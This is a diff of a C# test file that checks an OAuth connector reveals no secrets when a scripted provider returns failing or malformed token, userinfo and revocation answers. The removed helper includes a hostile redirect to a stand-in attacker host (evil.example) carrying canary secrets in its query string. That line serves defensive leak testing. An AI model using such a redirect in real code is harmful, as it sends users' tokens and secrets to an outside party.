@@ -15,11 +15,6 @@ public sealed class OAuthLeakTests : IDisposable
 
     private static CancellationToken Token => TestContext.Current.CancellationToken;
 
-    public static TheoryData<string> UnkindAnswers =>
-    [
-        "error", "error object", "description", "server error", "HTML", "malformed", "form", "not a token", "list", "reset", "hung", "redirect",
-    ];
-
     public void Dispose() => _hunt.Dispose();
 
     [Fact]
@@ -79,13 +74,13 @@ public sealed class OAuthLeakTests : IDisposable
     }
 
     [Theory]
-    [MemberData(nameof(UnkindAnswers))]
+    [MemberData(nameof(UnkindAnswers.Kinds), MemberType = typeof(UnkindAnswers))]
     public async Task S119_an_exchange_that_fails_tells_nothing(string how)
     {
         await using OAuthHost host = await StartAsync();
         AuthorizationRequest flow = await AuthorizeAsync(host);
         string code = host.Server.Grants.Approve(flow.AuthorizationUrl);
-        host.Server.Script("/token", Answer(host, how));
+        host.Server.Script("/token", UnkindAnswers.Make(how, _hunt, host.Test.Time));
 
         ConnectorResponse response = await host.SendAsync(flow, $"?code={code}&state={flow.State}");
 
@@ -97,12 +92,12 @@ public sealed class OAuthLeakTests : IDisposable
     }
 
     [Theory]
-    [MemberData(nameof(UnkindAnswers))]
+    [MemberData(nameof(UnkindAnswers.Kinds), MemberType = typeof(UnkindAnswers))]
     public async Task S119_user_info_that_can_not_be_had_tells_nothing(string how)
     {
         await using OAuthHost host = await StartAsync();
         _hunt.Plant("user info");
-        host.Server.Script("/userinfo", Answer(host, how));
+        host.Server.Script("/userinfo", UnkindAnswers.Make(how, _hunt, host.Test.Time));
 
         AuthorizationRequest flow = await AuthorizeAsync(host);
         Inspect(await host.ReturnAsync(flow));
@@ -114,14 +109,14 @@ public sealed class OAuthLeakTests : IDisposable
     }
 
     [Theory]
-    [MemberData(nameof(UnkindAnswers))]
+    [MemberData(nameof(UnkindAnswers.Kinds), MemberType = typeof(UnkindAnswers))]
     public async Task S119_a_renewal_that_fails_tells_nothing(string how)
     {
         await using OAuthHost host = await StartAsync();
         AuthorizationRequest flow = await AuthorizeAsync(host);
         Inspect(await host.ReturnAsync(flow));
         host.Test.Time.Advance(TimeSpan.FromHours(2));
-        host.Server.Script("/token", Answer(host, how), Answer(host, how));
+        host.Server.Script("/token", UnkindAnswers.Make(how, _hunt, host.Test.Time), UnkindAnswers.Make(how, _hunt, host.Test.Time));
 
         ConnectorException error = await Assert.ThrowsAsync<ConnectorException>(() => host.SeeAsync());
 
@@ -155,12 +150,12 @@ public sealed class OAuthLeakTests : IDisposable
     }
 
     [Theory]
-    [MemberData(nameof(UnkindAnswers))]
+    [MemberData(nameof(UnkindAnswers.Kinds), MemberType = typeof(UnkindAnswers))]
     public async Task S119_a_revocation_that_fails_tells_nothing(string how)
     {
         await using OAuthHost host = await StartAsync();
         Inspect(await host.ReturnAsync(await AuthorizeAsync(host)));
-        host.Server.Script("/revoke", Answer(host, how), Answer(host, how));
+        host.Server.Script("/revoke", UnkindAnswers.Make(how, _hunt, host.Test.Time), UnkindAnswers.Make(how, _hunt, host.Test.Time));
 
         DisconnectResult result = await host.Test.Client().DisconnectAsync(Token);
 
@@ -280,40 +275,4 @@ public sealed class OAuthLeakTests : IDisposable
     }
 
     private void Inspect(ConnectorResponse response) => _hunt.Canary.Inspect(response);
-
-    /// <summary>An answer that holds everything the provider knows when it is asked, the request itself included.</summary>
-    private ScriptedAnswer Answer(OAuthHost host, string how)
-    {
-        string all = _hunt.All;
-        ScriptedAnswer answer = how switch
-        {
-            "error" => new(400, """{"error":"ALL","error_description":"ALL"}"""),
-            "error object" => new(401, """{"error":{"type":"ALL","message":"ALL"},"errors":[{"message":"ALL"}]}"""),
-            "description" => new(400, """{"error":"invalid_request","error_description":"ALL","message":"ALL"}"""),
-            "server error" => new(503, "ALL", "text/plain") { Headers = { ["X-Debug"] = all } },
-            "HTML" => new(500, "<html>ALL</html>", "text/html"),
-            "malformed" => new(200, """{"access_token":"ALL",""" + '"'),
-            "form" => new(400, "error=ALL&error_description=ALL", "application/x-www-form-urlencoded"),
-            "not a token" => new(200, """{"access_token":"\u0001ALL","sub":[{"id":"ALL"}]}"""),
-            "list" => new(200, """["ALL"]"""),
-            "reset" => new(200) { Reset = true },
-            "redirect" => new(302, "ALL") { Headers = { ["Location"] = $"https://evil.example/?all={Uri.EscapeDataString(all)}" } },
-            _ => new(200)
-            {
-                Before = async cancellationToken =>
-                {
-                    host.Test.Time.Advance(TimeSpan.FromSeconds(31));
-                    await Task.Delay(Timeout.Infinite, cancellationToken);
-                },
-            },
-        };
-        return answer with
-        {
-            Fill = (request, body) =>
-            {
-                string known = $"{_hunt.All} {request.Body} {string.Join(' ', request.Headers.Values)}";
-                return body.Replace("ALL", how == "form" ? Uri.EscapeDataString(known) : JsonEncodedText.Encode(known).ToString(), StringComparison.Ordinal);
-            },
-        };
-    }
 }
